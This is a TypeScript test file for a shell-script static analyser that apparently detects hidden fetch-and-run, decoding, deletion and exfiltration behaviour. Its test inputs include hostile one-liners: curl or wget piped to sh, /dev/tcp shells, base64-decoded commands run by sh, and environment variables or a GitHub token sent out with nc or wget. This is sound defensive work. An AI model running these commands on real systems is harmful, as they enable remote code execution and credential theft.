import { describe, expect, it } from "vitest"
import { type Limits, limitsDefault } from "../../core/limits.ts"
import type { Act, Value } from "../../model/code.ts"
import type { Analysed, Analysis } from "../language.ts"
import { analyse } from "./analyse.ts"

const files: ReadonlySet<string> = new Set(["tests/data.bin", "lib/part.sh"])

function analysed(script: string, limits: Limits = limitsDefault, path = "x.sh"): Analysed {
  const starts = [...script.matchAll(/\n/g)].map(({ index }) => index + 1)
  const line = (at: number): number => starts.filter((start) => start <= at).length + 1
  const analysis: Analysis = {
    limits,
    files,
    variables: new Map(),
    inner: (language, source) => ({ acts: [], blind: [{ at: source.place(0, 0), why: `${language}: ${source.text}` }] }),
  }
  return analyse({ text: script, place: (start, end) => ({ path, lines: [line(start), line(end)] }) }, analysis)
}

/** A value in a line: what the tests compare. */
function said(value: Value): string {
  switch (value.kind) {
    case "text":
      return JSON.stringify(value.text)
    case "joined":
      return `[${value.parts.map(said).join(" ")}]`
    case "either":
      return `(${value.of.map(said).join(" | ")})`
    case "file":
      return `file(${said(value.path)})`
    case "names":
      return `${value.search.by}/${value.search.syntax}(${[value.search.pattern, ...value.search.within].map(said).join(", ")})`
    case "step":
      return `${value.how}:${value.tool}(${said(value.of)})`
    case "fetched":
      return `fetched(${said(value.from)})`
    case "export":
      return `${value.name} of ${value.module}`
    case "environment":
      return `$${value.name}`
    case "unknown":
      return `?${value.why}`
  }
}

function saidAct(act: Act): string {
  switch (act.kind) {
    case "runs":
      return act.as === "program"
        ? `program ${[act.what, ...(act.with ?? [])].map(said).join(" ")}`
        : `${act.as}${act.language === undefined ? "" : ` ${act.language}`} ${said(act.what)}`
    case "writes":
      return `writes ${said(act.path)} ${said(act.what)}`
    case "connects":
      return `connects ${said(act.to)}${act.what === undefined ? "" : ` < ${said(act.what)}`}`
    case "looks up":
      return `looks up ${said(act.name)}`
    case "replaces":
      return `replaces ${act.name}`
    default:
      return `${act.kind} ${said(act.path)}`
  }
}

const acts = (script: string): readonly string[] => analysed(script).acts.map(saidAct)
/** What becomes program, and what is written: the programs themselves and what they read apart. */
const flows = (script: string): readonly string[] => acts(script).filter((act) => !/^(?:program|reads) /.test(act))
const printed = (script: string): string => said(analysed(script).output ?? { kind: "unknown", why: "nothing" })

describe("words", () => {
  it.each([
    [`echo a'b'"c"\\d$'\\x65'`, '"abcde\\n"'],
    [`x=1; echo $x\${x}2"$x"'$x'`, '"1121$x\\n"'],
    [`x=a/b.tar.gz; echo \${x#*/} \${x##*.} \${x%.*} \${x%%.*}`, '"b.tar.gz gz a/b.tar a/b\\n"'],
    [`x=banana; echo \${x/a/o} \${x//an/AN} \${x/#b/p} \${x/%a/e}`, '"bonana bANANa panana banane\\n"'],
    [`x=abcdef; echo \${x:2} \${x:1:2} \${x: -2} \${#x}`, '"cdef bc ef 6\\n"'],
    [`x=abC; echo \${x^^} \${x,,} \${x^}`, '"ABC abc AbC\\n"'],
    [`x=y; y=z; echo \${!x}`, '"z\\n"'],
    [`x=; echo \${x:-a}\${x-b}\${y=c}`, '["a" ($y | "c") "\\n"]'],
    ["echo $((2 + 3 * 4)) $((1 << 4 | 1)) $((0x10))", '"14 17 16\\n"'],
    ["i=1; (( i += 2 )); echo $i", '"3\\n"'],
    ["echo $(echo a; echo b) `echo c`", '"a b c\\n"'],
    ["echo `echo \\`echo a\\``", '"a\\n"'],
    ["echo {a,b{1,2}}c {1..3} {c..a}", '"ac b1c b2c 1 2 3 c b a\\n"'],
    [`a=(x 'y z'); a+=(w); a[5]=v; echo \${a[1]} \${#a[@]} \${a[0]}`, '"y z 4 x\\n"'],
    ["set -- a b c; shift; echo $1 $# $*", '"b 2 b c\\n"'],
    [`f() { echo "$#:$2"; }; f 'a b' c`, '"2:c\\n"'],
    ["IFS=,; x=a,b; set -- $x; echo $2", '"b\\n"'],
    ["echo $UNSET", '[$UNSET "\\n"]'],
    ["echo ~/x", '[$HOME "/x\\n"]'],
    ["echo *.c", '[name/expansion("*.c") "\\n"]'],
    ["printf '%s-%d-%o-%x\\n' a 8 8 255", '"a-8-10-ff\\n"'],
    ["printf '%s ' a b", '"a b "'],
    ["printf -v x %03d 7; echo $x", '"007\\n"'],
    ["echo -n a", '"a"'],
    ["read a b <<< 'x y z'; echo $b", '"y z\\n"'],
    ["printf 'a:b\\nc:d\\n' | cut -d: -f2 | tail -n 1", '"d\\n"'],
    ["basename a/b.c .c; dirname a/b.c; expr substr hello 2 3", '"b\\na\\nell"'],
    ["cat <<E\n$((1+1))\nE", '"2\\n"'],
    ["cat <<'E'\n$x\nE", '"$x\\n"'],
    ["cat <<-E\n\ta\n\tE", '"a\\n"'],
    ["if a; then x=1; else x=2; fi; echo $x", '[?what a prints ("1" | "2") "\\n"]'],
    ["case $1 in a) x=1;; b) x=2;; esac; echo $x", '[($x | "1" | "2") "\\n"]'],
    ["for i in 1 2 3; do s=$s$i; done; echo $s", '[$s "123\\n"]'],
    ["x=a; x=b$(x=c); echo $x", '"b\\n"'],
    ["x=a; (x=b); echo $x", '"a\\n"'],
    ["f() { local x=b; }; x=a; f; echo $x", '"a\\n"'],
    ["while x=$x$y; do y=a; done; echo $x", '[$x ("" | $y) ("" | $y | "a") "\\n"]'],
  ])("%s", (script, expected) => {
    expect(printed(script)).toBe(expected)
  })
})

describe("constants", () => {
  // The step stays, as it says how the text came about; what it gives is known: it names a program.
  it.each([
    ["$(echo ql | tr a-z n-za-m) x", "dy", "translate:tr"],
    ["$(echo ls | rev)", "sl", "translate:rev"],
    ["$(echo hello | sed 's/l*o/p/; y/h/j/')", "jep", "translate:sed"],
    ["$(echo bHM= | base64 -d)", "ls", "decode:base64"],
    ["$(echo 6c73 | xxd -r -p)", "ls", "decode:xxd"],
    ["$(echo NRZQ==== | base32 -d)", "ls", "decode:base32"],
    ["$(printf '\\154\\x73')", "ls", "decode:printf"],
    ["$(echo -e '\\x6c\\x73')", "ls", "decode:echo"],
  ])("%s runs %s", (script, name, step) => {
    const { acts: found } = analysed(`ls() { echo ls; }; ${script} | tee f`)
    const program = found.find((act) => act.kind === "runs" && act.as === "program" && act.what.kind === "step")
    if (name === "ls") expect(program).toBeUndefined()
    else expect(program?.kind === "runs" && said(program.what).startsWith(step)).toBe(true)
    expect(flows(`x=${script.replace(/ x$/, "")}; echo $x > f`)[0]).toContain(step)
    expect(flows(`echo ${script.replace(/ x$/, "")} > $f; rm ${script.replace(/ x$/, "")}`).at(-1)).toBe(`deletes "${name}"`)
  })
})

describe("flows", () => {
  it.each([
    ["cat t | tail -c +9 | tr a b | xz -dc | sh", ['text shell decompress:xz(translate:tr(slice:tail(file("t"))))']],
    ["a=cu; b=rl; $a$b -s u | sh", ['connects "u"', 'text shell fetched("u")']],
    ["wget -qO- u | bash -s x", ['connects "u"', 'text shell fetched("u")']],
    ["wget u/f.sh; sh f.sh", ['connects "u/f.sh"', 'writes "f.sh" fetched("u/f.sh")', 'text shell fetched("u/f.sh")']],
    ["sh <(curl u)", ['connects "u"', 'text shell fetched("u")']],
    [". ./lib/part.sh", ['text shell file("lib/part.sh")']],
    ['eval "$(cat t)"', ['text shell file("t")']],
    ["sh -c 'rm x'", ['text shell "rm x"', 'deletes "x"']],
    ["bash <<E\nrm x\nE", ['text shell "rm x\\n"', 'deletes "x"']],
    ["bash <<< 'rm x'", ['text shell "rm x\\n"', 'deletes "x"']],
    ["exec 3<>/dev/tcp/h/1; sh <&3", ['connects "/dev/tcp/h/1"', 'text shell fetched("/dev/tcp/h/1")', 'connects "/dev/tcp/h/1"']],
    [
      "tar xf a.tar -C d; sh d/run",
      ['writes "d" decompress:tar(file("a.tar"))', 'text shell (file("d/run") | decompress:tar(file("a.tar")))'],
    ],
    ["tar -xOf a.tar | sh", ['text shell decompress:tar(file("a.tar"))']],
    ["gunzip -c a.gz | sh", ['text shell decompress:gunzip(file("a.gz"))']],
    ["gzip -d a.gz; . ./a", ['writes "a" decompress:gzip(file("a.gz"))', 'text shell decompress:gzip(file("a.gz"))']],
    [
      "openssl enc -d -aes-256-cbc -in t -out y; python3 y",
      ['writes "y" decrypt:openssl(file("t"))', 'text python decrypt:openssl(file("t"))'],
    ],
    ["dd if=t of=o skip=1; sh o", ['writes "o" slice:dd(file("t"))', 'text shell slice:dd(file("t"))']],
    ["cp t u; mv u v; sh v", ['writes "u" file("t")', 'writes "v" file("t")', 'deletes "u"', 'text shell file("t")']],
    ["f=$(mktemp); cat t > $f; sh $f", ['writes ?new file 1 file("t")', 'text shell file("t")']],
    ["cat t | tee a b | sh; sh b", ['writes "a" file("t")', 'writes "b" file("t")', 'text shell file("t")', 'text shell file("t")']],
    ["cat t > x; chmod +x x; ./x", ['writes "x" file("t")', 'text file("t")']],
    [
      "gcc -o p p.c t.o; ar rcs l.a t.o",
      [
        'source file("p.c")',
        'object file("t.o")',
        'writes "p" edit:compiler([file("p.c") file("t.o")])',
        'object file("t.o")',
        'writes "l.a" edit:compiler(file("t.o"))',
      ],
    ],
    ["cat t | gcc -x c -", ['source file("t")', 'writes "a.out" edit:compiler(file("t"))']],
    ["LD_PRELOAD=./t ls", ['module file("t")']],
    [
      "make -f t; awk -f t; sed -f t u; ed u < t",
      ['text make file("t")', 'text awk file("t")', 'text sed file("t")', 'text ed file("t")', 'writes "u" edit:ed(file("u"))'],
    ],
    ["unknown-filter < t | sh", ['text shell edit:unknown-filter(file("t"))']],
    ["unknown-filter tests/data.bin | sh", ['text shell edit:unknown-filter(file("tests/data.bin"))']],
    ["cat t | $(cat n) -d | sh", ['text shell program:program(file("t"))']],
    ["find d -name '*.x' | xargs cat | sh", ['text shell file(name/glob("*.x", "d"))']],
    ["grep -rl m d | xargs -I{} sh {}", ['text shell file(content/basic("m", "d"))']],
    ["for f in $(grep -lE m d/*); do sh $f; done", ['text shell file(content/extended("m", name/expansion("d/*")))']],
    ["find d -exec sh {} \\;", ['text shell file(name/glob("*", "d"))']],
    ["while read l; do eval $l; done < t", ['text shell slice:read(file("t"))']],
    ["f() { eval \"$1\"; }; f 'rm x'", ['text shell "rm x"', 'deletes "x"']],
    ["alias e=eval; e rm x", ['text shell "rm x"', 'deletes "x"']],
    ["trap 'rm x' EXIT", ['deletes "x"']],
    ["env A=b sudo -u r nohup nice -n 3 timeout 5 sh t", ['text shell file("t")']],
    ["echo 'rm x' | ssh h", ['connects "h"']],
    ["command sh t; exec sh t", ['text shell file("t")', 'text shell file("t")']],
    ["curl -d @f -H a:$A h", ['connects "h" < [file("f") "a:" $A]']],
    ["env | base64 | nc h 1", ['looks up "*"', 'connects "h" < edit:base64($*)']],
    ["wget --post-data $(gh auth token) h", ['connects "h" < program:gh("auth token")', 'writes "h" fetched("h")']],
    ["echo $NPM_TOKEN; cat ~/.npmrc", ['looks up "NPM_TOKEN"']],
    ["uncalled() { rm x; }", ['deletes "x"']],
    ["cd d; rm x; cd ..; rm y", ['deletes "d/x"', 'deletes "y"']],
    ["e='rm '; eval \"$e$(cat t)\"", ['text shell ["rm " file("t")]', 'deletes file("t")']],
    [
      "echo 'rm x' > f; echo 'rm y' >> f; sh f",
      ['writes "f" "rm x\\n"', 'writes "f" "rm x\\nrm y\\n"', 'text shell "rm x\\nrm y\\n"', 'deletes "x"', 'deletes "y"'],
    ],
    ["echo a > >(sh)", ['text shell "a\\n"']],
  ])("%s", (script, expected) => {
    expect(flows(script).map((act) => act.replace(/^(writes "f" )"rm y\\n"$/, '$1"rm x\\nrm y\\n"'))).toEqual(expected)
  })

  it("keeps what is decoded and run as a step, and looks into it", () => {
    expect(flows("echo cm0geA== | base64 -d | sh")).toEqual(['text shell decode:base64("cm0geA==\\n")', 'deletes "x"'])
  })

  it("follows a command that is put together of what a search finds", () => {
    const script = [
      'f=`grep -aErl "#{4}[a-z]{5}" $srcdir/`',
      'p=`echo $f | sed "s/.*\\.//g"`',
      "run='tr a b < $f | $p -d'",
      'eval "$run" | $SHELL',
    ].join("\n")
    const found = acts(script)
    const names = 'content/extended("#{4}[a-z]{5}", [$srcdir "/"])'
    expect(found).toContain(`program edit:sed([${names} "\\n"]) "-d"`)
    expect(found.at(-1)).toBe(`text shell program:program(translate:tr(file(${names})))`)
  })

  it("says each program that runs, with its words and what is piped into it", () => {
    const [, second] = analysed("cat t | tr a b").acts.filter((act) => act.kind === "runs")
    expect(second?.kind === "runs" && second.input !== undefined && said(second.input)).toBe('file("t")')
    expect(acts("$X y; c$@url u")).toContain('program $X "y"')
    expect(acts("c$@url u")).toEqual(['program ["c" ?argument @ "url"] "u"', 'connects "u"'])
  })

  it("hands other languages over", () => {
    expect(analysed("python -c 'import x'; node -e 'y()'").blind.map(({ why }) => why)).toEqual(["python: import x", "javascript: y()"])
  })

  it("puts a probe together", () => {
    const { probes } = analysed("echo 'int a;' > conftest.h; cat conftest.h - <<E > conftest.c\nint main;\nE\n$CC -c conftest.c")
    expect(probes?.map(({ language, text: of }) => `${language} ${of}`)).toEqual(["c int a;\nint main;\n"])
  })
})

describe("hooks", () => {
  it("are the functions that package managers call", () => {
    const { acts: found } = analysed("other() { rm a; }\npost_install() { rm b; }\n", limitsDefault, "x.install")
    expect(found.filter(({ kind }) => kind === "deletes").map(({ hook }) => hook)).toEqual([undefined, "post_install"])
    expect(analysed("post_install() { rm b; }").acts.some(({ hook }) => hook !== undefined)).toBe(false)
  })
})

describe("places", () => {
  it("are lines of the file, also in a here-document that is run", () => {
    const { acts: found } = analysed("\nsh <<'E'\n\nrm x\nE\n")
    expect(found.filter(({ kind }) => kind === "deletes").map(({ at }) => at.lines)).toEqual([[4, 4]])
  })
})

describe("what is not analysed", () => {
  it("is said with its lines, and the rest goes on", () => {
    const { acts: found, blind } = analysed("rm a\nif x; then; fi; )\nrm b\n")
    expect(found.filter(({ kind }) => kind === "deletes").map(saidAct)).toEqual(['deletes "a"', 'deletes "b"'])
    expect(blind.every(({ at }) => at.lines[0] === 2)).toBe(true)
    expect(blind.length).toBeGreaterThan(0)
  })

  it.each([
    ["a function that calls itself", "f() { f; f; rm x; }; f; rm y"],
    ["eval of itself", 'e=\'eval "$e"; eval "$e"\'; eval "$e"; rm y'],
    [
      "functions that double",
      `f0() { rm x; }; ${Array.from({ length: 30 }, (_, n) => `f${n + 1}() { f${n}; f${n}; }; `).join("")} f30; rm y`,
    ],
    ["loops in loops", `${"while a; do ".repeat(20)} rm x ${"; done".repeat(20)}; rm y`],
  ])("%s ends, and what follows is analysed", (_, script) => {
    const { acts: found, blind } = analysed(script, { ...limitsDefault, scriptStepsMax: 5000 })
    expect(blind.length).toBeGreaterThan(0)
    expect(found.map(saidAct)).toContain('deletes "y"')
  })

  it.each([
    ["a long word", `rm ${"a".repeat(5_000_000)}`],
    ["a value that doubles", `x=a; ${"x=$x$x; ".repeat(60)} rm $x`],
    ["an unknown value that doubles", `${"x=$(u $x$x); ".repeat(60)} eval "$x"`],
    ["nested substitutions", `echo ${"$(echo ".repeat(2000)}x${")".repeat(2000)}`],
    ["nested groups", `${"{ ".repeat(3000)}rm x${"; }".repeat(3000)}`],
    ["alternatives that multiply", `${Array.from({ length: 100 }, (_, n) => `a && x=$x${n}; `).join("")} $x; rm \${x#*1*2*3}`],
    ["many braces", `rm ${"{a,b}".repeat(40)}`],
  ])("%s ends", (_, script) => {
    const { acts: found } = analysed(script)
    expect(found.length).toBeLessThan(1000)
  })

  it("acts end at their maximum, which is said", () => {
    const { acts: found, blind } = analysed("rm a\n".repeat(100), { ...limitsDefault, scriptActsMax: 10 })
    expect(found.length).toBe(10)
    expect(blind.map(({ why }) => why)).toContain("more than 10 acts")
  })
})
